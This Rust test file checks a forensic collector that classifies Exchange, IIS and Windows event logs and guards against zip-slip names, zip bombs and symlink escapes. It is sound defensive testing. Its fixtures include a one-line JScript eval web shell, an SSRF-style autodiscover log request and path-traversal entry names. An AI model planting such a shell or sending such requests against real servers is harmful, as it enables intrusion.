//! End-to-end tests of `exhunt-collect` on temporary collections (directories and zips).

use std::fs;
use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};

use exhunt_collect::{
    Artifact, ArtifactKind, CollectError, CollectOptions, Collection, ExchangeLog, FileClass,
    HashingReader, Location, classify, collect, sha256_reader,
};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

// ---------------------------------------------------------------- helpers

fn shared_dir() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    if p.is_dir() {
        Some(p)
    } else {
        eprintln!("SKIP: ../shared not found");
        None
    }
}

fn write(root: &Path, rel: &str, content: &[u8]) -> PathBuf {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, content).unwrap();
    p
}

/// A zip with the given entries (name, content), deflated.
fn zip_bytes(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, content) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(content).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn one(paths: &[PathBuf]) -> Collection {
    collect(paths, &CollectOptions::default()).expect("collect")
}

fn find<'a>(c: &'a Collection, path: &str) -> &'a Artifact {
    c.artifacts
        .iter()
        .find(|a| a.path == path)
        .unwrap_or_else(|| panic!("no artifact {path}; have {:?}", paths(c)))
}

fn paths(c: &Collection) -> Vec<&str> {
    c.artifacts.iter().map(|a| a.path.as_str()).collect()
}

fn warned(c: &Collection, path: &str, needle: &str) -> bool {
    c.warnings
        .iter()
        .any(|w| w.path == path && w.message.contains(needle))
}

fn read_all(a: &Artifact) -> Vec<u8> {
    let mut v = Vec::new();
    a.open().unwrap().read_to_end(&mut v).unwrap();
    v
}

const IIS_LOG: &str = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n2021-03-03 02:13:48 10.10.4.102 POST /autodiscover/autodiscover.json @evil.edu/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@evil.edu 443 - 1.2.3.4 Mozilla/5.0+x - 200 0 0 64\r\n";

// ---------------------------------------------------------------- classification of real formats

#[test]
fn real_exchange_log_fixtures_are_classified() {
    let Some(shared) = shared_dir() else { return };
    let ex = shared.join("data/formats/extracted_examples");
    let cases: &[(&str, &str, ExchangeLog)] = &[
        (
            "Autodiscover__HttpProxy_2023010919-1.LOG",
            "Logging/HttpProxy/Autodiscover/HttpProxy_2023010919-1.LOG",
            ExchangeLog::HttpProxy,
        ),
        (
            "Owa__HttpProxy_2023010602-1.LOG",
            "Logging/HttpProxy/Owa/HttpProxy_2023010602-1.LOG",
            ExchangeLog::HttpProxy,
        ),
        (
            "Eas__HttpProxy_2023011116-1.LOG",
            "Logging/HttpProxy/Eas/HttpProxy_2023011116-1.LOG",
            ExchangeLog::HttpProxy,
        ),
        (
            "ECPServer20230111-1.LOG",
            "Logging/ECP/Server/ECPServer20230111-1.LOG",
            ExchangeLog::EcpServer,
        ),
        (
            "ECPActivity_11500_20230111-1.LOG",
            "Logging/ECP/Activity/ECPActivity_11500_20230111-1.LOG",
            ExchangeLog::EcpActivity,
        ),
        (
            "Ews_2023010616-1.LOG",
            "Logging/EWS/Ews_2023010616-1.LOG",
            ExchangeLog::Ews,
        ),
        (
            "Rps_Cmdlet_2023011116-1.LOG",
            "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011116-1.LOG",
            ExchangeLog::RpsCmdlet,
        ),
        (
            "MSGTRKMS2022091915-1.LOG",
            "TransportRoles/Logs/MessageTracking/MSGTRKMS2022091915-1.LOG",
            ExchangeLog::MessageTracking,
        ),
        (
            "RECV2023011116-1.LOG",
            "TransportRoles/Logs/FrontEnd/ProtocolLog/SmtpReceive/RECV2023011116-1.LOG",
            ExchangeLog::Other("SMTP Receive Protocol Log".into()),
        ),
        (
            "audit20230111-1.LOG",
            "Logging/CosmosQueue/audit/audit20230111-1.LOG",
            ExchangeLog::Other("audit".into()),
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    for (src, rel, _) in cases {
        write(dir.path(), rel, &fs::read(ex.join(src)).unwrap());
    }
    let c = one(&[dir.path().to_path_buf()]);
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    for (src, rel, log) in cases {
        let a = find(&c, rel);
        assert_eq!(a.kind, ArtifactKind::ExchangeLog(log.clone()), "{src}");
        assert_eq!(a.file_class, FileClass::Log);
        assert_eq!(a.size, fs::metadata(ex.join(src)).unwrap().len());
        // The content decides, not the folder: a neutral path gives the same answer.
        let head = fs::read(ex.join(src)).unwrap();
        assert_eq!(
            classify("x/y.txt", &head[..head.len().min(4096)]).0,
            a.kind,
            "{src}"
        );
    }
}

#[test]
fn real_evtx_is_classified_even_when_misnamed() {
    let Some(shared) = shared_dir() else { return };
    let src =
        shared.join("data/evtx/evtx-attack-samples/Powershell_4104_MiniDumpWriteDump_Lsass.evtx");
    let bytes = fs::read(&src).unwrap();
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "Windows/System32/winevt/Logs/PowerShell.evtx",
        &bytes,
    );
    write(dir.path(), "export/renamed.bin", &bytes);
    let c = one(&[dir.path().to_path_buf()]);
    for p in [
        "Windows/System32/winevt/Logs/PowerShell.evtx",
        "export/renamed.bin",
    ] {
        let a = find(&c, p);
        assert_eq!(a.kind, ArtifactKind::Evtx);
        assert_eq!(a.file_class, FileClass::Log);
        assert_eq!(a.size, bytes.len() as u64);
    }
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
}

#[test]
fn real_event_jsonl_export_is_classified() {
    let Some(shared) = shared_dir() else { return };
    let zip_path = shared.join("data/events-jsonl/psh_lsass_memory_dump_comsvcs.zip");
    let dir = tempfile::tempdir().unwrap();
    let mut zip = zip::ZipArchive::new(fs::File::open(&zip_path).unwrap()).unwrap();
    let mut names = Vec::new();
    for i in 0..zip.len() {
        let mut e = zip.by_index(i).unwrap();
        if e.is_dir() {
            continue;
        }
        let name = e.enclosed_name().unwrap();
        let mut v = Vec::new();
        e.read_to_end(&mut v).unwrap();
        write(dir.path(), name.to_str().unwrap(), &v);
        // Also under an unhelpful extension: content decides.
        write(dir.path(), "export/events.txt", &v);
        names.push(name.to_string_lossy().into_owned());
    }
    assert!(!names.is_empty());
    let c = one(&[dir.path().to_path_buf()]);
    for n in names
        .iter()
        .map(String::as_str)
        .chain(["export/events.txt"])
    {
        assert_eq!(find(&c, n).kind, ArtifactKind::EventJsonl, "{n}");
    }
    // And read straight from the zip given as a root.
    let c = one(&[zip_path]);
    assert!(!c.artifacts.is_empty());
    for a in &c.artifacts {
        assert!(
            a.path.starts_with("psh_lsass_memory_dump_comsvcs.zip!/"),
            "{}",
            a.path
        );
        assert_eq!(a.kind, ArtifactKind::EventJsonl);
        assert_eq!(read_all(a).len() as u64, a.size);
    }
}

#[test]
fn written_formats_and_encodings_are_classified() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    write(
        r,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        IIS_LOG.as_bytes(),
    );
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(IIS_LOG.as_bytes());
    write(r, "inetpub/logs/LogFiles/W3SVC2/u_ex210303.log", &bom);
    // Fields line alone, no #Software.
    write(
        r,
        "other/site.txt",
        b"#Fields: date time cs-method cs-uri-stem c-ip\n2021-03-03 00:00:00 GET / 1.2.3.4\n",
    );
    // UTF-16 LE with BOM.
    let mut u16 = vec![0xFF, 0xFE];
    let text = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2375.007\r\n#Log-type: HttpProxy Logs\r\n#Fields: DateTime,RequestId\r\n";
    for u in text.encode_utf16() {
        u16.extend_from_slice(&u.to_le_bytes());
    }
    write(r, "Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG", &u16);
    // A bare CSV header line before the directives (Rps_Http), and one without directives at all.
    write(
        r,
        "Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022093014-1.LOG",
        b"DateTime,StartTime,RequestId,MajorVersion,ClientInfo,CommandName,HttpStatus\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2375.007\r\n#Log-type: Rps Http Logs\r\n#Fields: DateTime,StartTime,RequestId\r\n",
    );
    write(
        r,
        "Logging/HttpProxy/Ecp/HttpProxy_2021030102-1.LOG",
        b"DateTime,RequestId,MajorVersion,Protocol,UrlStem\r\n2021-03-02T01:00:00.000Z,abc,15,Ecp,/ecp/x.js\r\n",
    );
    // OAB generator log without a known header.
    write(
        r,
        "Logging/OABGeneratorLog/OABGenerator20210303-1.log",
        b"2021-03-03T10:00:00.000Z Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n",
    );
    // Web content, dumps, archives, executables, config, other.
    write(
        r,
        "FrontEnd/HttpProxy/owa/auth/x.aspx",
        b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
    );
    write(r, "ProgramData/lsass.dmp", b"MDMP\x93\xa7\0\0");
    write(
        r,
        "ProgramData/stage.zip",
        &zip_bytes(&[("a.txt", b"hello")]),
    );
    write(r, "ProgramData/stage.7z", b"7z\xBC\xAF\x27\x1C\0\x04");
    write(r, "ProgramData/tool.dat", b"MZ\x90\0\x03\0\0\0");
    write(
        r,
        "Windows/System32/inetsrv/config/applicationHost.config",
        b"<?xml version=\"1.0\"?><configuration/>",
    );
    write(r, "readme.txt", b"just text");
    let c = one(&[r.to_path_buf()]);
    let expect: &[(&str, ArtifactKind, FileClass)] = &[
        (
            "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
            ArtifactKind::IisW3c,
            FileClass::Log,
        ),
        (
            "inetpub/logs/LogFiles/W3SVC2/u_ex210303.log",
            ArtifactKind::IisW3c,
            FileClass::Log,
        ),
        ("other/site.txt", ArtifactKind::IisW3c, FileClass::Log),
        (
            "Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG",
            ArtifactKind::ExchangeLog(ExchangeLog::HttpProxy),
            FileClass::Log,
        ),
        (
            "Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022093014-1.LOG",
            ArtifactKind::ExchangeLog(ExchangeLog::RpsHttp),
            FileClass::Log,
        ),
        (
            "Logging/HttpProxy/Ecp/HttpProxy_2021030102-1.LOG",
            ArtifactKind::ExchangeLog(ExchangeLog::HttpProxy),
            FileClass::Log,
        ),
        (
            "Logging/OABGeneratorLog/OABGenerator20210303-1.log",
            ArtifactKind::ExchangeLog(ExchangeLog::OabGenerator),
            FileClass::Log,
        ),
        (
            "FrontEnd/HttpProxy/owa/auth/x.aspx",
            ArtifactKind::File,
            FileClass::WebContent,
        ),
        (
            "ProgramData/lsass.dmp",
            ArtifactKind::File,
            FileClass::MemoryDump,
        ),
        (
            "ProgramData/stage.zip",
            ArtifactKind::File,
            FileClass::Archive,
        ),
        (
            "ProgramData/stage.7z",
            ArtifactKind::File,
            FileClass::Archive,
        ),
        (
            "ProgramData/tool.dat",
            ArtifactKind::File,
            FileClass::Executable,
        ),
        (
            "Windows/System32/inetsrv/config/applicationHost.config",
            ArtifactKind::File,
            FileClass::Config,
        ),
        ("readme.txt", ArtifactKind::File, FileClass::Other),
    ];
    for (p, kind, class) in expect {
        let a = find(&c, p);
        assert_eq!((&a.kind, a.file_class), (kind, *class), "{p}");
    }
    // The nested zip is an artifact, not opened.
    assert!(!c.artifacts.iter().any(|a| a.path.contains("a.txt")));
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
}

#[test]
fn junk_named_like_a_log_is_a_file_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let junk: Vec<u8> = (0..3000u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    write(
        dir.path(),
        "Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG",
        &junk,
    );
    write(
        dir.path(),
        "winevt/Logs/Security.evtx",
        b"not an evtx at all\0\0\x01",
    );
    let c = one(&[dir.path().to_path_buf()]);
    for p in [
        "Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG",
        "winevt/Logs/Security.evtx",
    ] {
        let a = find(&c, p);
        assert_eq!(
            (&a.kind, a.file_class),
            (&ArtifactKind::File, FileClass::Other),
            "{p}"
        );
        assert!(
            warned(
                &c,
                p,
                "named like a log but the content is not a recognised log format"
            ),
            "{:?}",
            c.warnings
        );
    }
}

// ---------------------------------------------------------------- display paths and roots

#[test]
fn display_paths_for_dir_zip_and_mixed_roots() {
    let tmp = tempfile::tempdir().unwrap();
    let case_a = tmp.path().join("caseA");
    write(
        &case_a,
        "Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG",
        b"#Log-type: HttpProxy Logs\r\n",
    );
    write(&case_a, "b.txt", b"b");
    let zip_path = write(
        tmp.path(),
        "caseB.zip",
        &zip_bytes(&[
            (
                "Logging\\EWS\\Ews_2021030102-1.LOG",
                b"#Log-type: EWS Logs\r\n",
            ),
            ("dir/", b""),
            ("inetpub/a.txt", b"a"),
        ]),
    );

    let c = one(std::slice::from_ref(&case_a));
    assert_eq!(
        paths(&c),
        ["Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG", "b.txt"]
    );
    assert_eq!(c.roots, vec![case_a.clone()]);

    let c = one(std::slice::from_ref(&zip_path));
    assert_eq!(
        paths(&c),
        [
            "caseB.zip!/Logging/EWS/Ews_2021030102-1.LOG",
            "caseB.zip!/inetpub/a.txt"
        ]
    );
    assert_eq!(
        find(&c, "caseB.zip!/Logging/EWS/Ews_2021030102-1.LOG").kind,
        ArtifactKind::ExchangeLog(ExchangeLog::Ews)
    );
    assert!(
        matches!(&c.artifacts[0].location, Location::ZipEntry { archive, index: 0, name } if *archive == zip_path && name == "Logging\\EWS\\Ews_2021030102-1.LOG")
    );
    assert_eq!(read_all(find(&c, "caseB.zip!/inetpub/a.txt")), b"a");

    let c = one(&[zip_path.clone(), case_a.clone()]);
    assert_eq!(
        paths(&c),
        [
            "caseA/Logging/HttpProxy/Owa/HttpProxy_2021030102-1.LOG",
            "caseA/b.txt",
            "caseB.zip!/Logging/EWS/Ews_2021030102-1.LOG",
            "caseB.zip!/inetpub/a.txt",
        ]
    );
    // Deterministic: same input, same output.
    let again = one(&[zip_path, case_a]);
    assert_eq!(c.artifacts, again.artifacts);
    assert_eq!(c.warnings, again.warnings);
}

#[test]
fn same_named_roots_are_disambiguated() {
    let tmp = tempfile::tempdir().unwrap();
    let a = tmp.path().join("x/case");
    let b = tmp.path().join("y/case");
    write(&a, "f.txt", b"1");
    write(&b, "f.txt", b"2");
    let c = one(&[a, b]);
    assert_eq!(paths(&c), ["case/f.txt", "case~2/f.txt"]);
    assert!(
        c.warnings
            .iter()
            .any(|w| w.message.contains("two inputs are named case"))
    );
}

#[test]
fn usage_errors_and_broken_zip_roots() {
    let tmp = tempfile::tempdir().unwrap();
    let missing = tmp.path().join("nope");
    let err = collect(&[missing], &CollectOptions::default()).unwrap_err();
    assert!(matches!(err, CollectError::NotFound { .. }));
    assert!(err.to_string().contains("does not exist"));

    let text = write(tmp.path(), "notes.txt", b"hello");
    let err = collect(&[text], &CollectOptions::default()).unwrap_err();
    assert!(matches!(err, CollectError::NotACollection { .. }), "{err}");
    assert!(err.to_string().contains("neither a directory nor a zip"));

    assert!(matches!(
        collect(&[], &CollectOptions::default()),
        Err(CollectError::NoInput)
    ));

    // Starts like a zip but is damaged: a warning, and the other roots are still scanned.
    let broken = write(
        tmp.path(),
        "broken.zip",
        b"PK\x03\x04garbage that is no zip",
    );
    let good = tmp.path().join("good");
    write(&good, "a.txt", b"a");
    let c = one(&[broken, good]);
    assert_eq!(paths(&c), ["good/a.txt"]);
    assert!(
        warned(&c, "broken.zip!/", "zip archive cannot be read"),
        "{:?}",
        c.warnings
    );
}

// ---------------------------------------------------------------- hostile zips

#[test]
fn zip_entries_escaping_the_root_are_skipped() {
    let tmp = tempfile::tempdir().unwrap();
    let z = write(
        tmp.path(),
        "case.zip",
        &zip_bytes(&[
            ("../../evil.txt", b"x"),
            ("/etc/abs.txt", b"x"),
            ("C:/Windows/drive.txt", b"x"),
            ("..\\..\\back.txt", b"x"),
            ("ok/../../up.txt", b"x"),
            ("ok/fine.txt", b"fine"),
        ]),
    );
    let c = one(&[z]);
    assert_eq!(paths(&c), ["case.zip!/ok/fine.txt"]);
    for raw in [
        "../../evil.txt",
        "/etc/abs.txt",
        "C:/Windows/drive.txt",
        "..\\..\\back.txt",
        "ok/../../up.txt",
    ] {
        assert!(
            warned(
                &c,
                &format!("case.zip!/{raw}"),
                "zip entry name escapes the root"
            ),
            "{raw}: {:?}",
            c.warnings
        );
    }
    assert!(!tmp.path().parent().unwrap().join("evil.txt").exists());
}

#[test]
fn zip_bomb_is_refused_with_a_warning() {
    let tmp = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 50 << 20];
    let z = write(
        tmp.path(),
        "bomb.zip",
        &zip_bytes(&[("zeros.bin", &zeros), ("small.txt", b"small")]),
    );
    drop(zeros);
    let c = one(std::slice::from_ref(&z));
    assert_eq!(paths(&c), ["bomb.zip!/small.txt"]);
    assert!(
        warned(&c, "bomb.zip!/zeros.bin", "compression ratio"),
        "{:?}",
        c.warnings
    );

    // Entry and total limits.
    let opts = CollectOptions {
        max_entry_bytes: 1 << 20,
        max_compression_ratio: u64::MAX,
        max_total_zip_bytes: u64::MAX,
    };
    let c = collect(std::slice::from_ref(&z), &opts).unwrap();
    assert!(
        warned(&c, "bomb.zip!/zeros.bin", "entry limit"),
        "{:?}",
        c.warnings
    );
    let opts = CollectOptions {
        max_entry_bytes: u64::MAX,
        max_compression_ratio: u64::MAX,
        max_total_zip_bytes: 1000,
    };
    let c = collect(&[z], &opts).unwrap();
    assert!(
        warned(&c, "bomb.zip!/zeros.bin", "total decompressed size"),
        "{:?}",
        c.warnings
    );
    assert_eq!(paths(&c), ["bomb.zip!/small.txt"]);
}

/// Patch the declared uncompressed size of the single entry (local and central headers).
fn lie_about_size(mut z: Vec<u8>, declared: u32) -> Vec<u8> {
    assert_eq!(&z[..4], b"PK\x03\x04");
    z[22..26].copy_from_slice(&declared.to_le_bytes());
    let cd = z.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
    z[cd + 24..cd + 28].copy_from_slice(&declared.to_le_bytes());
    z
}

#[test]
fn zip_entry_whose_header_lies_about_its_size_is_bounded() {
    let tmp = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 50 << 20];
    let honest = zip_bytes(&[("liar.bin", &zeros)]);
    drop(zeros);

    // Declared below the head size: caught while classifying.
    let z = write(
        tmp.path(),
        "tiny.zip",
        &lie_about_size(honest.clone(), 1000),
    );
    let c = one(&[z]);
    assert!(c.artifacts.is_empty());
    assert!(
        warned(
            &c,
            "tiny.zip!/liar.bin",
            "more than the 1000 bytes its header declares"
        ),
        "{:?}",
        c.warnings
    );

    // Declared 100 000 (ratio looks fine): listed, then reading fails past the declared size.
    let z = write(tmp.path(), "liar.zip", &lie_about_size(honest, 100_000));
    let c = one(&[z]);
    let a = find(&c, "liar.zip!/liar.bin");
    assert_eq!(a.size, 100_000);
    let mut buf = Vec::new();
    let err = a.open().unwrap().read_to_end(&mut buf).unwrap_err();
    assert!(err.to_string().contains("its header declares"), "{err}");
    assert!(buf.len() <= 100_000, "read {} bytes", buf.len());
    let err = a.materialize().unwrap_err();
    assert!(matches!(err, CollectError::Limit { .. }), "{err}");
    // Hashing through the reader fails the same way instead of running away.
    assert!(sha256_reader(a.open().unwrap()).is_err());
}

#[test]
fn encrypted_zip_entry_gives_a_warning() {
    let tmp = tempfile::tempdir().unwrap();
    let mut z = zip_bytes(&[("secret.txt", b"secret")]);
    // Set the "encrypted" general-purpose flag in the local and central headers.
    z[6] |= 1;
    let cd = z.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
    z[cd + 8] |= 1;
    let p = write(tmp.path(), "enc.zip", &z);
    let c = one(&[p]);
    assert!(c.artifacts.is_empty());
    assert!(
        warned(&c, "enc.zip!/secret.txt", "encrypted"),
        "{:?}",
        c.warnings
    );
}

// ---------------------------------------------------------------- filesystem hazards

#[cfg(unix)]
#[test]
fn symlinks_fifos_and_unreadable_files() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("case");
    write(&root, "real.txt", b"inside");
    let outside = write(tmp.path(), "outside-secret.txt", b"secret");
    symlink(&outside, root.join("escape.txt")).unwrap();
    symlink(root.join("real.txt"), root.join("inner-link.txt")).unwrap();
    symlink(tmp.path().join("missing"), root.join("dangling.txt")).unwrap();
    symlink(tmp.path(), root.join("updir")).unwrap();

    let fifo = root.join("pipe.LOG");
    let made_fifo = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);

    let locked = write(&root, "locked.txt", b"locked");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).unwrap();
    let can_still_read = fs::File::open(&locked).is_ok();

    let c = one(std::slice::from_ref(&root));
    assert!(
        warned(&c, "escape.txt", "points outside the collection root"),
        "{:?}",
        c.warnings
    );
    assert!(
        warned(&c, "updir", "points outside the collection root"),
        "{:?}",
        c.warnings
    );
    assert!(
        warned(&c, "dangling.txt", "broken symbolic link"),
        "{:?}",
        c.warnings
    );
    assert!(
        !c.artifacts
            .iter()
            .any(|a| a.path == "escape.txt" || a.path.starts_with("updir"))
    );
    assert_eq!(read_all(find(&c, "inner-link.txt")), b"inside");

    if made_fifo {
        assert!(warned(&c, "pipe.LOG", "FIFO"), "{:?}", c.warnings);
        assert!(!c.artifacts.iter().any(|a| a.path == "pipe.LOG"));
    } else {
        eprintln!("SKIP: mkfifo unavailable, FIFO assertion not run");
    }

    if can_still_read {
        eprintln!(
            "SKIP: running with rights that ignore chmod 000 (root); unreadable-file assertion not run"
        );
        assert_eq!(find(&c, "locked.txt").size, 6);
    } else {
        assert!(
            warned(&c, "locked.txt", "ermission denied"),
            "{:?}",
            c.warnings
        );
        assert!(!c.artifacts.iter().any(|a| a.path == "locked.txt"));
    }
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o644)).unwrap();
}

// ---------------------------------------------------------------- reading and hashing

#[test]
fn hashing_reader_gives_known_digests() {
    let mut r = HashingReader::new(&b"abc"[..]);
    let mut sink = Vec::new();
    r.read_to_end(&mut sink).unwrap();
    assert_eq!(r.bytes_read(), 3);
    assert_eq!(
        r.finish(),
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    );
    let (h, n) = sha256_reader(&b""[..]).unwrap();
    assert_eq!(n, 0);
    assert_eq!(
        h,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
    let (h, n) = sha256_reader(&b"The quick brown fox jumps over the lazy dog"[..]).unwrap();
    assert_eq!(n, 43);
    assert_eq!(
        h,
        "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592"
    );
}

#[test]
fn materialize_zip_entry_is_identical_and_temporary() {
    let tmp = tempfile::tempdir().unwrap();
    let content: Vec<u8> = (0..300_000u32).flat_map(|i| i.to_le_bytes()).collect();
    let z = write(
        tmp.path(),
        "case.zip",
        &zip_bytes(&[("Logs/App.evtx", &content)]),
    );
    let c = one(&[z]);
    let a = find(&c, "case.zip!/Logs/App.evtx");
    assert_eq!(a.size, content.len() as u64);
    assert_eq!(read_all(a), content);
    let (h, n) = sha256_reader(a.open().unwrap()).unwrap();
    assert_eq!((h, n), sha256_reader(&content[..]).unwrap());
    let copy = a.materialize().unwrap();
    assert!(copy.is_temporary());
    let p = copy.path().to_path_buf();
    assert!(p.extension().is_some_and(|e| e == "evtx"));
    assert_eq!(fs::read(&p).unwrap(), content);
    drop(copy);
    assert!(!p.exists(), "temporary copy {} left behind", p.display());

    // A plain file materializes as itself.
    let f = write(tmp.path(), "dir/x.txt", b"x");
    let c = one(&[tmp.path().join("dir")]);
    let copy = find(&c, "x.txt").materialize().unwrap();
    assert!(!copy.is_temporary());
    assert_eq!(copy.path(), f);
    drop(copy);
    assert!(f.exists());
}

#[test]
fn an_abandoned_zip_reader_does_not_hang() {
    let tmp = tempfile::tempdir().unwrap();
    let content = vec![7u8; 2 << 20];
    let z = write(tmp.path(), "case.zip", &zip_bytes(&[("big.bin", &content)]));
    let opts = CollectOptions {
        max_compression_ratio: u64::MAX,
        ..CollectOptions::default()
    };
    let c = collect(&[z], &opts).unwrap();
    let a = find(&c, "case.zip!/big.bin");
    let mut r = a.open().unwrap();
    let mut buf = [0u8; 10];
    r.read_exact(&mut buf).unwrap();
    assert_eq!(buf, [7u8; 10]);
    drop(r);
    assert_eq!(read_all(a).len(), content.len());
}

#[derive(Debug, PartialEq)]
struct Snapshot {
    path: PathBuf,
    content_sha256: String,
    modified: std::time::SystemTime,
    accessed: Option<std::time::SystemTime>,
    len: u64,
}

fn snapshot(root: &Path) -> Vec<Snapshot> {
    let mut out = Vec::new();
    for e in walkdir_files(root) {
        let m = fs::symlink_metadata(&e).unwrap();
        out.push(Snapshot {
            content_sha256: sha256_reader(&read_noatime(&e)[..]).unwrap().0,
            modified: m.modified().unwrap(),
            // Access times are kept by O_NOATIME on Linux only.
            accessed: if cfg!(target_os = "linux") {
                m.accessed().ok()
            } else {
                None
            },
            len: m.len(),
            path: e,
        });
    }
    out
}

/// Read without touching the access time (the test must not disturb what it measures).
fn read_noatime(p: &Path) -> Vec<u8> {
    let mut o = fs::OpenOptions::new();
    o.read(true);
    #[cfg(all(
        target_os = "linux",
        any(target_arch = "x86_64", target_arch = "aarch64")
    ))]
    std::os::unix::fs::OpenOptionsExt::custom_flags(&mut o, 0o1000000);
    let mut v = Vec::new();
    o.open(p).unwrap().read_to_end(&mut v).unwrap();
    v
}

fn walkdir_files(root: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(e.path());
            } else if t.is_file() {
                v.push(e.path());
            }
        }
    }
    v.sort();
    v
}

#[test]
fn inputs_are_unchanged_after_collect_and_read() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("case");
    write(
        &root,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        IIS_LOG.as_bytes(),
    );
    write(
        &root,
        "Logging/ECP/Server/ECPServer20210303-1.LOG",
        b"#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n",
    );
    write(&root, "FrontEnd/HttpProxy/owa/auth/x.aspx", b"<%@ Page %>");
    let z = write(
        tmp.path(),
        "case.zip",
        &zip_bytes(&[("a/b.LOG", IIS_LOG.as_bytes())]),
    );
    let before = snapshot(tmp.path());
    let c = one(&[root, z]);
    assert_eq!(c.artifacts.len(), 4);
    for a in &c.artifacts {
        let (_, n) = sha256_reader(a.open().unwrap()).unwrap();
        assert_eq!(n, a.size);
        drop(a.materialize().unwrap());
    }
    let after = snapshot(tmp.path());
    assert_eq!(before, after);
}
